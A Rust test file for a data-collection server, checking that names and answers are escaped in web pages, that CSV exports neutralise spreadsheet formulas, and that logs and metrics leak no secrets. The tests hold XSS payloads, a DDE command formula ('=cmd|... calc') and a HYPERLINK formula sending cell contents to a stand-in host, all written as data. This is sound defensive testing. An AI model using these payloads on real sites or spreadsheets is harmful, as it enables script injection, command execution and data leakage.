//! Words of people where they do not belong: scripts in names and answers, formulas in downloads, anything that was said
//! in logs and numbers.

use std::io::Read as _;

use serde_json::json;
use tributary::service::By;
use tributary::service::access::Role;
use tributary_sync_core::clock::Clock;
use tributary_tests::harness::{Client, Installation, PASSWORD, TestServer, field};

use crate::api::browser::Browser;
use crate::api::field::{Form, Phone, code, record, text};

const SCRIPT: &str = "<script>alert(1)</script>";
const HANDLER: &str = "\"><img src=x onerror=alert(1)>";
const LINK: &str = "javascript:alert(1)//'\"</dd></style>";

#[test]
fn whatever_people_are_called_and_say_is_text_on_every_page() {
    let server = TestServer::start();
    let org = server.organisation("mekong");
    let admin = org.user("Chi", Role::OrgAdmin).client;
    let form = Form::publish(&server, &org);
    let mut phone = Phone::enrol(&org, &form, SCRIPT);
    let mut answers = vec![(form.key("consent_store"), code("given"))];
    answers.push((form.key("safe_contact"), text(HANDLER)));
    phone.save(record(1), true, Clock::new(), answers);
    phone.push();
    let mut linh = Phone::enrol(&org, &form, HANDLER);
    for name in [SCRIPT, HANDLER, LINK] {
        admin
            .post("/api/v1/teams", &json!({"name": name}))
            .expect(201);
    }
    let path = format!("/api/v1/records/{}", record(1));
    let shown = || admin.get(&path).expect(200)["shown"].clone();
    for words in [SCRIPT, HANDLER, LINK] {
        let body = json!({"shown": shown(), "text": words});
        admin.post(&format!("{path}/comment"), &body).expect(200);
        let body = json!({"shown": shown(), "reason": words});
        admin.post(&format!("{path}/return"), &body).expect(200);
    }
    let service = server.service();
    service
        .revoke_device(By::Operator, org.id, linh.device.profile)
        .unwrap();
    linh.save(
        record(2),
        true,
        Clock::new(),
        vec![(form.key("safe_contact"), text(LINK))],
    );
    linh.push();
    let mut chi = Browser::new(server.client());
    assert_eq!(chi.sign_in("Chi").status, 303);
    let record_page = format!("/records/{}", record(1));
    for page in [
        "/",
        "/records",
        &record_page,
        &format!("{record_page}/erase"),
        "/quarantine",
    ] {
        // It takes no page with a script or a style in it; see there.
        let html = chi.open(page).to_owned();
        for raw in [
            "<img",
            "alert(1)</script>",
            "</dd></style>",
            "href=\"javascript:",
        ] {
            assert!(!html.contains(raw), "{page} holds {raw}");
        }
    }
    assert!(
        chi.open(&record_page)
            .contains("&lt;script&gt;alert(1)&lt;/script&gt;")
    );
    // Words of a form that was refused come back as text, too.
    let stale = [("shown", "x"), ("words", HANDLER)];
    let reply = chi.post(&format!("{record_page}/delete"), &stale);
    let html = chi.take(reply, 409).to_owned();
    assert!(html.contains("&lt;img") && !html.contains("<img"));
}

/// The cells of a CSV file.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '"' if quoted && chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            c => cell.push(c),
        }
    }
    cells
}

#[test]
fn nothing_that_people_say_or_are_called_is_a_formula_in_a_download() {
    let server = TestServer::start();
    let org = server.organisation("mekong");
    let admin = org.user("=Chi()", Role::OrgAdmin).client;
    let form = Form::publish(&server, &org);
    let evil = [
        "=cmd|' /C calc'!A0",
        "+1+cmd|x",
        "-2+3+cmd|x",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        " =1+1",
        "\u{feff}=1+1",
        "ok;=1+1",
        "ok\t=1+1",
        "=HYPERLINK(\"https://elsewhere.example/?\"&A1)",
    ];
    let mut phone = Phone::enrol(&org, &form, "=Dara()");
    for (n, words) in evil.iter().enumerate() {
        let answers = vec![
            (form.key("consent_store"), code("given")),
            (form.key("consent_share"), code("given")),
            (form.key("safe_contact"), text(words)),
        ];
        phone.save(record(n as u8 + 1), true, Clock::new(), answers);
    }
    phone.push();
    for n in 1..=evil.len() as u8 {
        let path = format!("/api/v1/records/{}", record(n));
        let shown = admin.get(&path).expect(200)["shown"].clone();
        admin
            .post(&format!("{path}/approve"), &json!({"shown": shown}))
            .expect(200);
    }
    let mut seen = 0;
    for format in ["csv", "conflicts"] {
        let reply = admin.post(
            "/api/v1/exports/outreach_interview",
            &json!({"format": format}),
        );
        assert_eq!(reply.status, 200);
        assert!(
            reply
                .header("content-disposition")
                .unwrap()
                .starts_with("attachment")
        );
        for cell in cells(&String::from_utf8(reply.body).unwrap()) {
            let start = cell.trim_start_matches([' ', '\u{feff}']);
            assert!(
                !start.starts_with(['=', '+', '@', '\t', '\r', '\n', '＝']),
                "{cell:?}"
            );
            assert!(
                !start.starts_with('-') || start[1..].parse::<f64>().is_ok(),
                "{cell:?}"
            );
            seen += usize::from(cell.contains("1+1") || cell.contains("cmd"));
        }
    }
    assert!(
        seen >= 8,
        "{seen} of the words were found: the test looks at nothing"
    );
}

/// Sends what a log must not repeat to many addresses, well and badly.
fn provoke(admin: &Client, anonymous: &Client) {
    const WORD: &str = "Quicksilver-Sokunthea";
    for client in [admin, anonymous] {
        for path in [
            "users",
            "teams",
            "records/list",
            "forms",
            "devices/codes",
            "auth/sign-in",
            "enrol",
            "auth/reset",
            "auth/device",
        ] {
            for body in [
                json!({"name": WORD, "token": WORD, "organisation": WORD, "password": WORD, "code": WORD, "assertion": WORD}),
                json!(WORD),
            ] {
                client.post(&format!("/api/v1/{path}"), &body);
            }
        }
        client.get(&format!("/api/v1/users?next={WORD}"));
        client.get(&format!("/{WORD}/{WORD}?q={WORD}"));
        client.get(&format!("/records/{WORD}"));
        client.get(&format!("/api/v1/forms/{WORD}/versions"));
        client.post(&format!("/api/v1/exports/{WORD}"), &json!({}));
        client.send(
            "GET",
            "/",
            &[
                ("cookie", &format!("__Host-tributary={WORD}")),
                ("user-agent", WORD),
                ("referer", WORD),
            ],
            b"",
        );
        client.send(
            "POST",
            "/sync/v1/bundle",
            &[("content-type", "application/octet-stream")],
            WORD.as_bytes(),
        );
        client.with_token(WORD).get("/api/v1/me");
    }
}

#[test]
fn no_word_of_anybody_is_in_the_log_or_in_the_numbers_whatever_is_asked_of_the_log() {
    let mut here = Installation::init();
    here.run(&["form", "publish"]);
    let mut log = here.serve_talking();
    let reader = std::thread::spawn(move || {
        let mut said = String::new();
        log.read_to_string(&mut said).map(|_| said)
    });
    let link = here.worker_link("Quicksilver Bopha");
    let phone = here.place("phone");
    field(&phone, &["enrol", &link, "--label", "Quicksilver phone"]);
    field(
        &phone,
        &[
            "new",
            "--set",
            "consent_store=given",
            "--set",
            "safe_contact=Quicksilver at noon",
            "--set",
            "_status=complete",
        ],
    );
    field(&phone, &["sync", "--quiet"]);
    let admin = here.admin();
    provoke(&admin, &here.client());
    let listed = admin.post("/api/v1/records/list", &json!({})).expect(200);
    let id = listed["items"][0]["id"].as_str().unwrap().to_owned();
    let record = admin.get(&format!("/api/v1/records/{id}")).expect(200);
    assert!(record.to_string().contains("Quicksilver at noon"));
    let numbers = String::from_utf8(admin.get("/metrics").body).unwrap();
    here.kill();
    let log = reader.join().unwrap().unwrap();
    assert!(log.lines().count() > 40, "{log}");
    for (what, text) in [("log", &log), ("numbers", &numbers)] {
        for word in [
            "Quicksilver",
            "Sokunthea",
            "Bopha",
            PASSWORD,
            &id,
            admin.token().unwrap(),
        ] {
            let line = text
                .lines()
                .find(|line| line.to_lowercase().contains(&word.to_lowercase()));
            assert_eq!(line, None, "a word is in the {what}");
        }
    }
}
